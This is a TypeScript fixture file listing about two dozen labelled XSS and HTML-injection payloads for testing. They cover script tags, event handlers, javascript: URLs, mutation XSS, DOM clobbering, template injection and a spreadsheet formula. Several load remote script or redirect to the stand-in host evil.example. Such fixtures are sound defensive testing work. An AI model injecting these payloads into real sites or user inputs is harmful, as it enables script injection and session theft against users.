/**
 * Attack texts by class, after OWASP. Shown as text they have no effect. Interpreted as code, each opens a dialog,
 * fetches from a host that does not exist, or violates the policy of the page.
 */
export const attackStrings: [kind: string, text: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script src=//evil.example/2.js></script>'],
  ['event attribute', '<img src=x onerror=alert(3)>'],
  ['event attribute of svg', '<svg onload=alert(4)>'],
  ['event that comes by itself', '<details open ontoggle=alert(5)>'],
  ['event of the focus', '<input autofocus onfocus=alert(6)>'],
  ['javascript: address', '<a href="javascript:alert(7)">x</a>'],
  ['javascript: in entities', '<a href="jav&#x09;ascript:alert(8)">x</a>'],
  ['address without a scheme', '<img src=//evil.example/9.png>'],
  ['link inside svg', '<svg><a xlink:href="javascript:alert(10)"><text>x</text></a></svg>'],
  [
    'mXSS by math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(11)&gt;">',
  ],
  ['mXSS by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(12)>">'],
  ['mXSS by template', '<template><img src=x onerror=alert(13)></template>'],
  ['frame with a page inside', '<iframe srcdoc="<script>alert(14)</script>"></iframe>'],
  ['another base', '<base href="//evil.example/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example/16">'],
  ['DOM clobbering by a form', '<form id=body><input name=innerHTML></form>'],
  ['DOM clobbering by a picture', '<img name=getElementById src=//evil.example/18.png>'],
  ['style sheet', '<style>@import "//evil.example/19.css";</style>'],
  ['style attribute', '<p style="background:url(//evil.example/20.png)">x</p>'],
  ['link to a style sheet', '<link rel=stylesheet href=//evil.example/21.css>'],
  ['way out of an attribute', '"><img src=x onerror=alert(22)>'],
  ['way out of a title', '</title></textarea></script><script>alert(23)</script>'],
  ['template syntax', "{{constructor.constructor('alert(24)')()}} ${alert(24)}"],
  ['right to left', '\u202Egnp.exe\u2066 <b onmouseover=alert(25)>x</b>'],
  ['formula', '=HYPERLINK("//evil.example/26";"x")'],
]

/** The text when it fits, else a short attack with its number. */
export const fitting = (text: string, longest: number, number = 0) =>
  text.length <= longest ? text : `<img src onerror=alert(${number})>`
